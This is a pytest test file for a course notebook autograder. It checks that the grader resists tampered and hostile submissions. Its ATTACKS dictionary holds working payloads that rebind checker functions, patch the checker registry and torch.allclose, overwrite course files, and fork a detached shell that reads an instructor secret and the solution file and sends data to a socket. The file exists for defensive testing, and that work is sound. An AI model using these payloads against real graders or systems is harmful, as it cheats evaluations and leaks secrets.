"""The grader cannot be fooled, and survives bad submissions.

One folder of submissions of notebook 01 is graded once (in parallel) through the
command line; each test then looks at one submission's result.
"""

import copy
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading

import nbformat
import pytest

from course_utils.checks import _core
from course_utils.instructor import notebooks as nbtools
from course_utils.instructor import sandbox
from course_utils.instructor.grader import scan_exercise_source, scan_gives_away
from course_utils.paths import NOTEBOOKS_DIR, PACKAGE_DIR

SOLUTION = nbtools.find_notebook("01")
STEM = SOLUTION.stem
ALL = {"1.1", "1.2", "1.3", "1.4", "1.5"}


def solution_nb():
    return nbtools.read(SOLUTION)


def student_nb():
    return nbtools.make_student_notebook(solution_nb())


def set_exercise(nb, ex_id, source):
    nb.cells[nbtools.exercise_cells(nb)[ex_id]].source = source
    return nb


def check_cell(nb, ex_id):
    return nb.cells[nbtools.check_cell_index(nb, ex_id)]


SECRET = "instructor-secret-5b1f0e"
TOKEN = "leftover-process-9c4d2a"
STUB = "def ns_generator_loss(fake_logits):\n    return fake_logits.mean()\n"
SUCCESS = {
    ex: f"Exercise {ex} passed: {_core.checker_for(ex).summary}" for ex in ALL
}

# Attacks made by the exercise code itself. Each one gets past the source scan
# (tested below), so only the verdict taken outside the kernel and the sandbox
# stand in its way.
ATTACKS = {
    # the name the check cells call, rebound to something that prints the
    # success lines the released notebook shows
    "attack_rebind": (
        f"SUCCESS = {SUCCESS!r}\n"
        "class checks:\n"
        "    @staticmethod\n"
        "    def check(exercise_id, *answers):\n"
        "        print(SUCCESS[exercise_id])\n\n\n" + STUB
    ),
    # the checkers' registry, reached by a path the scan does not deny, every
    # checker replaced by one that accepts anything
    "attack_registry": (
        "core = getattr(torch.sys, 'mod' + 'ules')['course_utils.checks._core']\n"
        "for c in core._REGISTRY.values():\n"
        "    type(c).run = lambda self, answer, case: 0.0\n"
        "    type(c).verify = lambda self, case, result: None\n\n\n" + STUB
    ),
    # the library function the checkers compare with, patched through an alias
    "attack_alias": "import torch as tt\ntt.allclose = lambda *a, **k: True\n\n\n"
    + STUB,
    # the course's own files rewritten, to corrupt every later grading
    "attack_files": (
        "import pathlib as pl\n"
        "package = pl.Path(plotting.__file__).parent\n"
        "for f in sorted(package.rglob('*.py')) + sorted(\n"
        "        (package.parent / 'notebooks').glob('*.ipynb')):\n"
        "    f.write_text(f.read_text() + '\\n# corrupted\\n')\n\n\n" + STUB
    ),
    # a process that outlives the cell, the instructor's environment, the
    # solution notebook and the network
    "attack_escape": (
        "import posix\n"
        "import socket as so\n"
        "found = [str(posix.environ.get(b'COURSE_TEST_SECRET'))]\n"
        "if posix.fork() == 0:\n"
        "    posix.setsid()\n"
        f"    posix.execv('/bin/sh', ['sh', '-c', 'sleep 120; echo {TOKEN}'])\n"
        "try:\n"
        "    found.append(open(PATH).read()[:2000])\n"
        "except OSError as exc:\n"
        "    found.append(type(exc).__name__)\n"
        "try:\n"
        "    so.create_connection(('127.0.0.1', PORT), timeout=2).sendall(b'leak')\n"
        "    found.append('connected')\n"
        "except OSError as exc:\n"
        "    found.append(type(exc).__name__)\n"
        "raise RuntimeError('LEAK ' + ' | '.join(found))\n\n\n" + STUB
    ),
}


def build_submissions(port=0):
    subs = {}
    subs["solution"] = solution_nb()
    subs["student"] = student_nb()

    nb = student_nb()  # stored outputs say "passed", code is a stub
    for ex in ALL:
        check_cell(nb, ex).outputs[0]["text"] = f"Exercise {ex} passed: edited\n"
    subs["edited_outputs"] = nb

    nb = student_nb()
    del nb.cells[nbtools.check_cell_index(nb, "1.1")]
    subs["deleted_check"] = nb

    nb = student_nb()
    cell = check_cell(nb, "1.2")
    cell.source = (
        "# NBVAL_CHECK_OUTPUT\nprint('Exercise 1.2 passed: the non-saturating "
        "generator loss matches, also for extreme logits.')"
    )
    subs["altered_check"] = nb

    nb = student_nb()
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.source = "# NBVAL_SKIP\n" + cell.source
            cell.metadata.setdefault("tags", []).append("nbval-skip")
    subs["skip_markers"] = nb

    nb = student_nb()
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    subs["cleared_outputs"] = nb

    nb = student_nb()
    set_exercise(
        nb,
        "1.2",
        "import course_utils.checks as c\n"
        "c.check = lambda *a: print('Exercise 1.2 passed: yes')\n"
        "def ns_generator_loss(fake_logits):\n    return 0.0\n",
    )
    subs["monkeypatch"] = nb

    nb = student_nb()
    set_exercise(
        nb,
        "1.3",
        "class Liar(float):\n    def __eq__(self, other):\n"
        "        return True\n\n\ndef simultaneous_step(x, y, h):\n"
        "    return Liar(0.0), Liar(0.0)\n",
    )
    subs["doctored_eq"] = nb

    nb = solution_nb()  # all right except 1.3, which never returns
    set_exercise(
        nb, "1.3", "def simultaneous_step(x, y, h):\n    while True:\n        pass\n"
    )
    subs["infinite_loop"] = nb

    for name, source in ATTACKS.items():
        source = source.replace("PATH", repr(str(SOLUTION))).replace("PORT", str(port))
        subs[name] = set_exercise(student_nb(), "1.2", source)

    subs["gives_away"] = set_exercise(
        solution_nb(),
        "1.2",
        "def ns_generator_loss(fake_logits):\n"
        "    return losses.g_loss_nonsaturating(fake_logits)\n",
    )

    nb = solution_nb()  # exercise cells moved and renumbered: matched by id
    nb.cells = list(reversed(nb.cells))
    for cell in nb.cells:
        cell.pop("id", None)
    subs["reordered"] = nb
    return subs


def course_files_digest():
    digest = hashlib.sha256()
    for f in sorted(PACKAGE_DIR.rglob("*.py")) + sorted(NOTEBOOKS_DIR.glob("*.ipynb")):
        digest.update(str(f).encode() + f.read_bytes())
    return digest.hexdigest()


class Listener:
    """A TCP server on the host's loopback that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.received.append(conn.recv(100))
            conn.close()


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    folder = tmp_path_factory.mktemp("submissions")
    before = course_files_digest()
    listener = Listener()
    for name, nb in build_submissions(listener.port).items():
        if name in SAME_AS_STUDENT:
            continue  # shown equal to the student's run below, without a kernel
        nb = copy.deepcopy(nb)
        nb.nbformat_minor = 4  # submissions may come without cell ids
        for cell in nb.cells:
            cell.pop("id", None)
        (folder / name).mkdir()
        nbformat.write(nb, str(folder / name / f"{STEM}.ipynb"))
    (folder / "corrupt").mkdir()
    (folder / "corrupt" / f"{STEM}.ipynb").write_text("{ this is not json")
    (folder / "not_a_notebook").mkdir()
    (folder / "not_a_notebook" / f"{STEM}.ipynb").write_text('{"hello": 1}')
    (folder / "unknown").mkdir()
    (folder / "unknown" / "99_no_such_course_notebook.ipynb").write_text(
        nbformat.writes(solution_nb())
    )
    out = folder / "results.json"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "course_utils",
            "grade",
            str(folder),
            "--timeout",
            "20",
            "--json",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=900,
        env={**os.environ, "COURSE_TEST_SECRET": SECRET},
    )
    listener.sock.close()
    assert proc.returncode == 0, proc.stdout + proc.stderr
    data = json.loads(out.read_text())["results"]
    by_name = {}
    for r in data:
        rel = r["submission"].split(str(folder) + "/")[1]
        by_name[rel.split("/")[0]] = r
    by_name["__table__"] = proc.stdout
    by_name["__json__"] = out.read_text()
    by_name["__files_changed__"] = course_files_digest() != before
    by_name["__network__"] = listener.received
    by_name["__leftover__"] = subprocess.run(
        ["pgrep", "-f", TOKEN], capture_output=True, text=True
    ).stdout.split()
    return by_name


def passed(result):
    return {ex for ex, e in result["exercises"].items() if e["passed"]}


def test_solution_scores_full_marks(results):
    r = results["solution"]
    assert (r["score"], r["max_score"], r["error"]) == (5, 5, None)
    assert r["notebook"] == STEM


def test_student_version_scores_zero_without_crashing(results):
    r = results["student"]
    assert (r["score"], r["max_score"], r["error"]) == (0, 5, None)
    assert all("not solved yet" in e["message"] for e in r["exercises"].values())


# Tampering outside the exercise cells never reaches the notebook the grader runs:
# it runs the solution's cells with the student's exercise code. These submissions
# are shown to give the very notebook the plain student version gives, which runs
# (and scores 0) above, so they need no kernel of their own.
SAME_AS_STUDENT = ("edited_outputs", "deleted_check", "altered_check",
                   "cleared_outputs")


@pytest.mark.parametrize("name", SAME_AS_STUDENT)
def test_tampering_outside_the_exercises_changes_nothing_that_runs(name):
    from course_utils.instructor.grader import build_graded_notebook

    subs = build_submissions()
    solution = solution_nb()
    plain, _ = build_graded_notebook(solution, subs["student"])
    tampered, rejected = build_graded_notebook(solution, subs[name])
    assert rejected == {}
    assert len(tampered.cells) == len(plain.cells)
    for a, b in zip(plain.cells, tampered.cells, strict=True):
        assert (a.cell_type, a.source, a.metadata) == (b.cell_type, b.source,
                                                        b.metadata)
        assert a.get("outputs") == b.get("outputs")  # the solution's check outputs


def test_skip_markers_in_the_exercise_cells_earn_nothing(results):
    r = results["skip_markers"]  # the marker reaches the kernel's cells: run it
    assert r["error"] is None
    assert passed(r) == set(), r["exercises"]


def test_reaching_into_the_checker_is_rejected(results):
    r = results["monkeypatch"]
    assert "1.2" not in passed(r)
    assert "rejected by the grader" in r["exercises"]["1.2"]["message"]


def test_doctored_equality_does_not_pass(results):
    r = results["doctored_eq"]
    assert "1.3" not in passed(r)
    assert "should be a number" in r["exercises"]["1.3"]["message"]


def test_infinite_loop_is_stopped_and_the_rest_still_scored(results):
    r = results["infinite_loop"]
    assert passed(r) == {"1.1", "1.2", "1.4", "1.5"}
    assert "timed out" in r["exercises"]["1.3"]["message"]


def test_exercises_are_matched_by_metadata_id(results):
    assert results["reordered"]["score"] == 5


@pytest.mark.parametrize(
    "name, message",
    [
        ("corrupt", "not valid JSON"),
        ("not_a_notebook", "no 'cells'"),
        ("unknown", "cannot tell which notebook"),
    ],
)
def test_bad_files_get_an_error_entry(results, name, message):
    r = results[name]
    assert r["score"] == 0 and message in r["error"]


def test_table_lists_every_submission(results):
    table = results["__table__"]
    assert "5/5" in table and "0/5" in table and "ERROR" in table
    graded = 14 + len(ATTACKS) + 1 - len(SAME_AS_STUDENT)
    assert f"{graded} submission(s) graded" in table


@pytest.mark.parametrize(
    "source, ok",
    [
        ("def f(x):\n    return x + 1\n", True),
        ("import sys\n", False),
        ("from course_utils import checks\n", False),
        ("torch.allclose = lambda *a, **k: True\n", False),
        ("t = torch\n", False),
        ("def f():\n    return f.__globals__\n", False),
        ("setattr(object, 'x', 1)\n", False),
        ("self_x = 3\nclass A:\n    def __init__(self):\n        self.x = 1\n", True),
    ],
)
def test_static_scan(source, ok):
    assert (scan_exercise_source(source) is None) == ok


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attacks_get_past_the_scan(name):
    """So the tests below exercise the design, not the scan."""
    assert scan_exercise_source(ATTACKS[name]) is None


@pytest.mark.parametrize("name", ["attack_rebind", "attack_registry", "attack_alias"])
def test_attacks_inside_the_kernel_earn_nothing(results, name):
    r = results[name]
    assert r["error"] is None
    assert passed(r) == set(), r["exercises"]
    message = r["exercises"]["1.2"]["message"]
    assert "rejected" not in message
    if name == "attack_alias":  # the check cell printed its line: the grader said no
        assert "the loss is wrong" in message, message


needs_sandbox = pytest.mark.skipif(
    not sandbox.isolation().isolated, reason=sandbox.isolation().detail
)


@needs_sandbox
def test_attack_on_the_course_files_changes_nothing(results):
    r = results["attack_files"]
    assert "1.2" not in passed(r)
    assert not results["__files_changed__"]
    # graded in the same run, the right answers still score
    assert results["solution"]["score"] == 5
    assert results["reordered"]["score"] == 5


@needs_sandbox
def test_submission_cannot_escape_the_sandbox(results):
    r = results["attack_escape"]
    assert "1.2" not in passed(r)
    message = r["exercises"]["1.2"]["message"]
    assert "LEAK None | " in message, message  # not the instructor's variable
    assert "| FileNotFoundError | " in message  # the solutions are hidden
    assert "connected" not in message
    assert results["__network__"] == []
    assert results["__leftover__"] == []  # the forked process died with the job
    assert SECRET not in results["__json__"]


def test_calling_the_package_answer_is_refused(results):
    r = results["gives_away"]
    assert passed(r) == {"1.1", "1.3", "1.4", "1.5"}
    assert "course's own answer" in r["exercises"]["1.2"]["message"]


@pytest.mark.parametrize(
    "exercise_id, source, refused",
    [
        ("1.2", "def f(t):\n    return losses.g_loss_nonsaturating(t)\n", True),
        ("1.2", "from course_utils.losses import g_loss_nonsaturating as g\n", True),
        ("1.2", "def f(t):\n    return getattr(losses, 'g_loss_nonsaturating')(t)\n",
         True),
        ("1.2", "def f(t):\n    return F.softplus(-t).mean()\n", False),
        ("1.3", "def f(t):\n    return losses.g_loss_nonsaturating(t)\n", False),
        ("5.4", "def f(c, l, k):\n    return metrics.matched_code_accuracy(c, l)\n",
         True),
    ],
)
def test_gives_away_scan(exercise_id, source, refused):
    assert (scan_gives_away(exercise_id, source) is not None) == refused


def test_a_timeout_is_blamed_only_on_its_own_exercise():
    from course_utils.instructor.grader import _culprit

    nb = solution_nb()
    cells = nbtools.exercise_cells(nb)
    check = nbtools.check_cell_index(nb, "1.3")
    assert _culprit(nb, cells, cells["1.3"], {}) == "1.3"
    assert _culprit(nb, cells, check, {}) == "1.3"
    assert _culprit(nb, cells, check, {"1.3": "timed out"}) is None
    # a cell of the notebook's own, between two exercises, blames nobody
    own = next(i for i in range(cells["1.1"] + 1, check)
               if nb.cells[i].cell_type == "code" and i not in cells.values()
               and i != nbtools.check_cell_index(nb, "1.1"))
    assert _culprit(nb, cells, own, {}) is None


def test_without_a_sandbox_the_grader_still_runs_and_says_so(tmp_path, monkeypatch):
    from course_utils.instructor import grader

    none = sandbox.Isolation("none", "no sandbox here: submissions are not isolated")
    monkeypatch.setattr(sandbox, "isolation", lambda: none)
    path = tmp_path / f"{STEM}.ipynb"
    nb = set_exercise(solution_nb(), "1.2", STUB)
    nbformat.write(nb, str(path))
    r = grader.grade_submission(path, cell_timeout=60)
    assert passed(r) == {"1.1", "1.3", "1.4", "1.5"}, r
    proc = subprocess.run(
        [sys.executable, "-c",
         "from course_utils.instructor import sandbox, cli\n"
         "sandbox.isolation = lambda: sandbox.Isolation('none', 'NOT ISOLATED')\n"
         f"cli.main(['grade', {str(tmp_path / 'missing.ipynb')!r}])"],
        capture_output=True, text=True, timeout=120,
    )
    assert "warning: isolation: NOT ISOLATED" in proc.stderr
    assert "isolation" not in proc.stdout


def test_the_nbval_watchdog_tells_a_lost_reply_from_a_long_cell(monkeypatch):
    """nbval_patience's look at IOPub while nbval awaits a cell's reply: idle
    (reported, or never left) for the limit is a hang; busy is not, however long,
    nor is a dead kernel; every IOPub message read is handed to nbval afterwards,
    in order."""
    import time
    from collections import deque
    from queue import Empty

    from nbval.kernel import RunningKernel

    from course_utils.instructor import nbval_patience as patience

    for name in ("get_message", "await_reply", "execute_cell_input"):
        monkeypatch.setattr(RunningKernel, name, getattr(RunningKernel, name))
    monkeypatch.setattr(RunningKernel, "idle_limit", None, raising=False)
    patience._watch_replies(0.3)

    def status(state, parent="cell"):
        return {"msg_type": "status", "parent_header": {"msg_id": parent},
                "content": {"execution_state": state}}

    class Client:
        def __init__(self, iopub, reply_after=None):
            self.iopub, self.start = deque(iopub), time.monotonic()
            self.reply_after = reply_after

        def execute(self, *args, **kwargs):
            return "cell"

        def get_iopub_msg(self, timeout=None):
            if self.iopub:
                return self.iopub.popleft()
            raise Empty

        def get_shell_msg(self, timeout=None):
            time.sleep(min(timeout, 0.05))
            if self.reply_after and time.monotonic() - self.start > self.reply_after:
                return {"parent_header": {"msg_id": "cell"},
                        "content": {"status": "ok"}}
            raise Empty

    class Manager:
        def __init__(self, alive):
            self.alive = alive

        def is_alive(self):
            return self.alive

    def wait(iopub, timeout=1.0, reply_after=None, alive=True):
        kernel = RunningKernel.__new__(RunningKernel)
        kernel.kc, kernel.km = Client(iopub, reply_after), Manager(alive)
        msg_id = kernel.execute_cell_input("x = 1")
        start = time.monotonic()
        try:
            kernel.await_reply(msg_id, timeout=timeout)
            outcome = "reply"
        except patience.KernelWentIdle as exc:
            outcome = str(exc)
        except Empty:
            outcome = "cell time limit"
        return outcome, time.monotonic() - start, kernel

    outcome, seconds, _ = wait([status("busy"), status("idle")])
    assert outcome == ("KernelWentIdle: the kernel finished the cell and reported "
                       "idle, but no reply to its execute request came in 0.3 s")
    assert 0.3 <= seconds < 0.9
    outcome, seconds, _ = wait([status("idle", parent="kernel_info")])
    assert outcome == ("KernelWentIdle: the kernel stayed idle for 0.3 s after the "
                       "cell was sent: it neither took it up nor replied")
    busy = [status("idle", parent="before"), status("busy"),
            {"msg_type": "stream", "parent_header": {"msg_id": "cell"}}]
    outcome, seconds, kernel = wait(busy, timeout=1.0)
    assert outcome == "cell time limit" and seconds >= 1.0
    assert [kernel.get_message("iopub") for _ in busy] == busy  # all kept, in order
    outcome, _, _ = wait([status("busy"), status("idle")], reply_after=0.2)
    assert outcome == "reply"
    outcome, _, _ = wait([status("busy"), status("idle")], alive=False)
    assert outcome == "cell time limit"


def hang_case(tmp_path, mode, marker=None):
    """Notebook 01 up to exercise 1.1's check cell as the solution, and as the
    submission the same with exercise 1.1's cell made to lose a message first.
    Returns the submission's path, the solutions' folder and the graded notebook."""
    from hang import hang_source

    from course_utils.instructor import grader

    nb = solution_nb()
    nb.cells = nb.cells[: nbtools.check_cell_index(nb, "1.1") + 1]
    solutions = tmp_path / "solutions"
    solutions.mkdir()
    nbformat.write(nb, str(solutions / f"{STEM}.ipynb"))
    cell = nb.cells[nbtools.exercise_cells(nb)["1.1"]]
    cell.source = hang_source(mode, marker) + "\n\n" + cell.source
    assert scan_exercise_source(cell.source) is None
    assert scan_gives_away("1.1", cell.source) is None
    path = tmp_path / f"{STEM}.ipynb"
    nbformat.write(nb, str(path))
    return path, solutions, grader.build_graded_notebook(nb, nb)[0]


def test_a_submission_whose_kernel_hangs_once_is_rerun_and_says_so(tmp_path,
                                                                  monkeypatch):
    """The first run loses exercise 1.1's reply while the kernel reports idle; the
    submission is run again and scores, and the result says it was rerun.
    (Unsandboxed, so that the two runs can share a marker file.)"""
    from course_utils.instructor import grader

    none = sandbox.Isolation("none", "no sandbox here: submissions are not isolated")
    monkeypatch.setattr(sandbox, "isolation", lambda: none)
    path, solutions, graded = hang_case(tmp_path, "reply", str(tmp_path / "hung"))
    r = grader.grade_submission(path, solutions_dir=solutions, idle_limit=2)
    assert (r["score"], r["max_score"], r["error"]) == (1, 1, None), r
    cell = grader._code_cell_numbers(graded)[nbtools.exercise_cells(graded)["1.1"]]
    assert r["restarted"] == (
        f"code cell {cell}: the kernel finished the cell and reported idle, but no "
        "reply to its execute request came in 2 s")
    assert f"(run twice: the first run hung at code cell {cell}: " in (
        grader.format_table([r]))


def test_a_submission_whose_kernel_hangs_twice_fails_clearly(tmp_path):
    """Exercise 1.1's check cell is never taken up, as far as the grader can see,
    in both runs: nothing from that cell on is graded, and the error says so."""
    from course_utils.instructor import grader

    path, solutions, graded = hang_case(tmp_path, "request")
    r = grader.grade_submission(path, solutions_dir=solutions, idle_limit=2)
    check = grader._code_cell_numbers(graded)[nbtools.check_cell_index(graded, "1.1")]
    why = (f"code cell {check}: the kernel stayed idle for 2 s after the cell was "
           "sent: it neither took it up nor replied")
    assert r["restarted"] == why, r
    assert r["error"] == (
        f"the kernel hung again after a restart, at {why} (the first run hung the "
        "same way); the cells from there on were not graded")
    assert r["score"] == 0 and r["exercises"] == {"1.1": {
        "passed": False,
        "message": f"not graded: the kernel hung at code cell {check} in both runs"}}
